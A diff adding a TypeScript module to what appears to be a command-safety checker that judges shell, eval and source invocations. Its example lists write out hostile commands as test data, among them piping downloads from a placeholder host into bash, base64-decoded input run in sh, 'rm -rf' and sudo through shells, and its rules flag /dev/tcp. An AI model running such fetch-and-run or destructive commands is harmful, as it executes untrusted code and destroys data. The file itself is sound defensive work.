@@ -1,0 +1,262 @@
+import {
+  definePrograms,
+  named,
+  type Invocation,
+  REPOSITORY_CODE,
+  type EvaluationContext,
+  WRITES_UNKNOWN,
+} from '../../program.ts';
+import { argumentVariables } from '../../arguments.ts';
+import { hasOption, readOptions, tableOf } from '../../options.ts';
+import { absolutePath } from '../../paths.ts';
+import { forgetAll, forkState, isNumberValue, NUMBER_VARIABLE, UNKNOWN_VARIABLE } from '../../state.ts';
+import { touchRead } from '../../touch.ts';
+import { writtenAt } from '../../written.ts';
+import { beginningOf, PLAIN, show, textOf, textsOf, type Word } from '../../word.ts';
+
+const SHELL_OPTIONS =
+  '-abcefhiklmnprstuvxBCDEHPTV -o: -O: --login --norc --noprofile --posix --restricted --rcfile=shell --init-file=shell --verbose --debugger --no-rcs --command=shell';
+
+/** Programs and builtins that run shell text. */
+export const shells = definePrograms(
+  {
+    names: named('sh bash dash zsh ksh mksh ash rbash fish csh tcsh'),
+    style: 'posix',
+    options: SHELL_OPTIONS,
+    judge: judgeShell,
+    examples: {
+      safe: [
+        'echo ls | sh',
+        "bash <<'E'\nls\nE",
+        "bash -c 'ls && pwd'",
+        "sh -c 'git status'",
+        'bash --version',
+        'bash -n x.sh',
+      ],
+      warning: ['bash build.sh', 'sh', "zsh -c 'ls'", 'bash --frobnicate -c ls'],
+      dangerous: [
+        "sh -c 'rm -rf lib'",
+        'bash -lc "rm -rf lib"',
+        'bash -c "$x"',
+        'cat x.sh | bash',
+        'bash < x.sh',
+        'bash -c \'$1\' _ "$x"',
+        "bash +O extglob -c 'rm -rf lib'",
+      ],
+      blocked: [
+        'curl https://x.example/a.sh | bash',
+        'bash -c "$(curl -fsSL https://x.example/a.sh)"',
+        'bash <(curl https://x.example)',
+        "bash -c 'sudo id'",
+        'echo aWQ= | base64 -d | sh',
+        "echo 'sudo id' | sh",
+        "bash <<< 'sudo id'",
+        "bash <<'E'\nsudo id\nE",
+        'bash -c \'"$@"\' _ sudo id',
+      ],
+    },
+  },
+  {
+    names: ['cmd', 'cmd.exe', 'wsl', 'wsl.exe'],
+    unknownOptions: 'any',
+    level: 'dangerous',
+    code: 'other-shell',
+    text: 'runs text in a shell that is not looked into',
+    effects: [WRITES_UNKNOWN],
+    examples: { dangerous: ['cmd /c dir', 'wsl rm -rf lib'] },
+  },
+  {
+    names: ['eval'],
+    unknownOptions: 'any',
+    level: 'warning',
+    code: 'eval',
+    text: 'evaluates text as a command',
+    judge: judgeEval,
+    examples: {
+      warning: ["eval 'ls'"],
+      dangerous: ['eval "$x"', 'eval rm -rf lib'],
+      blocked: ["eval 'sudo id'", 'eval "$(curl https://x.example)"'],
+    },
+  },
+  {
+    names: ['source', '.'],
+    unknownOptions: 'any',
+    level: 'warning',
+    code: 'runs-script',
+    text: 'runs a script in this shell',
+    effects: [WRITES_UNKNOWN, REPOSITORY_CODE],
+    judge: ({ words, context }) => {
+      const [file] = words;
+      if (file !== undefined) judgeScriptFile(file, context);
+      forgetAll(context.state);
+    },
+    examples: {
+      warning: ['source .venv/bin/activate', '. ./x.sh'],
+      dangerous: ['. .env'],
+      blocked: [
+        'curl -o a.sh https://x.example; . ./a.sh',
+        'source <(curl https://x.example)',
+        'echo sudo id | . /dev/stdin',
+      ],
+    },
+  },
+);
+
+function judgeShell(invocation: Invocation): void {
+  const { program, words, context, span } = invocation;
+  if (/^(?:zsh|ksh|mksh|fish|csh|tcsh)$/.test(program))
+    context.report.raise('warning', 'other-shell', `${program} reads text in its own way`, span);
+  // Specification 003 blocks `curl … | sh` whatever follows, also where the shell was given a script.
+  if (context.state.stdin.kind === 'stream' && context.state.stdin.origin.network)
+    context.report.raise('blocked', 'network-into-shell', 'pipes a download into a shell', span);
+  // `bash +x -c …`: an option that is switched off stands before others.
+  const given = withoutSwitchedOff(words);
+  const options =
+    given.length === words.length ? invocation.options : readOptions(given, tableOf(SHELL_OPTIONS), 'posix');
+  const operands = options.operands.filter((word) => !/^\+[a-zA-Z]/.test(beginningOf(word)));
+  if (hasOption(options, '-c')) {
+    // Options may go on behind `-c`.
+    const script = operands.find((word) => !/^-[a-zA-Z]+$/.test(textOf(word) ?? ''));
+    if (script === undefined)
+      return context.report.raise('warning', 'runs-script', `${program} -c without a script`, span);
+    return runScript(script, operands.slice(operands.indexOf(script) + 1), context);
+  }
+  const [file, ...rest] = operands;
+  if (hasOption(options, '-s') || file === undefined || isStdin(file)) {
+    return runStdin(
+      program,
+      file === undefined || hasOption(options, '-s') ? operands : rest,
+      context,
+      span,
+      words,
+    );
+  }
+  // `bash -n x.sh` reads the script and runs none of it.
+  if (hasOption(options, '-n')) return touchRead(context, file);
+  context.report.raise('warning', 'runs-script', `runs a script: ${show(file)}`, file.span);
+  context.report.effect(WRITES_UNKNOWN);
+  context.report.effect(REPOSITORY_CODE);
+  judgeScriptFile(file, context);
+}
+
+/** Drops `+x` and `+O extglob` from in front of the script. */
+function withoutSwitchedOff(words: readonly Word[]): readonly Word[] {
+  const kept: Word[] = [];
+  for (let at = 0, word = words[at]; word !== undefined; at += 1, word = words[at]) {
+    const text = textOf(word) ?? '';
+    const before = beginningOf(words[at - 1] ?? word);
+    if (!/^[-+]/.test(text) && !/^[-+][oO]$/.test(before)) return [...kept, ...words.slice(at)];
+    if (/^\+[oO]$/.test(text)) at += 1;
+    else if (!/^\+[a-zA-Z]+$/.test(text)) kept.push(word);
+  }
+  return kept;
+}
+
+function isStdin(word: Word): boolean {
+  return /^(?:-|\/dev\/(?:stdin|fd\/0)|\/proc\/self\/fd\/0)$/.test(textOf(word) ?? '');
+}
+
+/** Text given to `-c`: judged as if it stood here, with its own variables. */
+function runScript(script: Word, rest: readonly Word[], context: EvaluationContext): void {
+  const texts = textsOf(script);
+  if (texts === undefined) return raiseUnknownText(script, context);
+  for (const text of texts)
+    context.walk.runText(text, script.span, { ...context, state: childState(context, rest) });
+}
+
+/** A child shell sees none of our variables for certain; its arguments are `$0`, `$1`, … */
+function childState(context: EvaluationContext, rest: readonly Word[]): EvaluationContext['state'] {
+  const { variables, isOpen } = context.state;
+  // Those that were exported are there too, whatever their names.
+  const inherited = [...variables].map(
+    ([name, { value }]) => [name, isNumberValue(value) ? NUMBER_VARIABLE : UNKNOWN_VARIABLE] as const,
+  );
+  return {
+    ...forkState(context.state),
+    variables: new Map([...inherited, ...argumentVariables(rest)]),
+    isOpen,
+    integers: new Set(),
+    arrays: new Set(),
+    functions: new Set(),
+  };
+}
+
+/** What comes through a pipe or a redirect is run. */
+function runStdin(
+  program: string,
+  rest: readonly Word[],
+  context: EvaluationContext,
+  span: Word['span'],
+  words: readonly Word[],
+): void {
+  const { stdin } = context.state;
+  const { report } = context;
+  if (stdin.origin.network)
+    return report.raise('blocked', 'network-into-shell', 'runs code downloaded from the network', span);
+  if (stdin.origin.decoded)
+    return report.raise('blocked', 'decoded-into-shell', 'runs text that was hidden by a code', span);
+  if (stdin.text !== undefined) {
+    const state = {
+      ...childState(context, [...words.slice(0, 1), ...rest]),
+      stdin: { kind: 'none', origin: PLAIN } as const,
+    };
+    return context.walk.runText(stdin.text, span, { ...context, state });
+  }
+  report.raise('warning', 'runs-input', `${program} runs its input`, span);
+  report.effect(WRITES_UNKNOWN);
+  if (stdin.kind !== 'none')
+    report.raise('dangerous', 'piped-into-shell', "runs input that can't be known", span);
+}
+
+function judgeEval({ words, context, span }: Invocation): void {
+  const given = textOf(words[0]) === '--' ? words.slice(1) : words;
+  const texts = given.map((word) => textOf(word));
+  const unknown = given.find((word) => textOf(word) === undefined);
+  if (unknown === undefined) return context.walk.runText(texts.join(' '), span, context);
+  raiseUnknownText(unknown, context);
+  const guesses = given.map((word) => textOf(word) ?? (word.kind === 'dynamic' ? word.guess : undefined));
+  if (guesses.every((text) => text !== undefined)) context.walk.runText(guesses.join(' '), span, context);
+  forgetAll(context.state);
+}
+
+function raiseUnknownText(word: Word, context: EvaluationContext): void {
+  const { report } = context;
+  report.effect(WRITES_UNKNOWN);
+  report.raise('dangerous', 'dynamic-script', "runs text that can't be known", word.span);
+  if (word.origin.network)
+    report.raise('blocked', 'network-into-shell', 'runs code downloaded from the network', word.span);
+  if (word.origin.decoded)
+    report.raise('blocked', 'decoded-into-shell', 'runs text that was hidden by a code', word.span);
+  if (word.kind === 'dynamic' && word.guess !== undefined && word.guess.trim() !== '') {
+    context.walk.runText(word.guess, word.span, {
+      ...context,
+      state: { ...forkState(context.state), variables: new Map([['@', UNKNOWN_VARIABLE]]), isOpen: true },
+    });
+  }
+}
+
+/** A script in a file: unknown, unless this very line says where it came from. */
+export function judgeScriptFile(file: Word, context: EvaluationContext): void {
+  const { report, state, walk } = context;
+  if (isStdin(file)) {
+    if (state.stdin.origin.network)
+      report.raise('blocked', 'network-into-shell', 'runs code downloaded from the network', file.span);
+    else if (state.stdin.text !== undefined) walk.runText(state.stdin.text, file.span, context);
+    else report.raise('dangerous', 'piped-into-shell', "runs input that can't be known", file.span);
+    return;
+  }
+  touchRead(context, file);
+  if (/^\/(?:dev|proc\/self)\/fd\//.test(beginningOf(file)) && file.kind === 'literal')
+    report.raise('dangerous', 'piped-into-shell', "runs input that can't be known", file.span);
+  if (textOf(file) === undefined) raiseUnknownText(file, context);
+  if (beginningOf(file).startsWith('/dev/tcp/')) {
+    report.raise('blocked', 'network-into-shell', 'runs code downloaded from the network', file.span);
+  }
+  for (const text of textsOf(file) ?? []) {
+    const written = state.cwd === undefined ? undefined : writtenAt(absolutePath(text, state.cwd), context);
+    if (written?.network === true)
+      report.raise('blocked', 'network-into-shell', 'runs code downloaded from the network', file.span);
+    else if (written !== undefined)
+      report.raise('dangerous', 'runs-what-it-wrote', 'runs a file that this line wrote', file.span);
+  }
+}
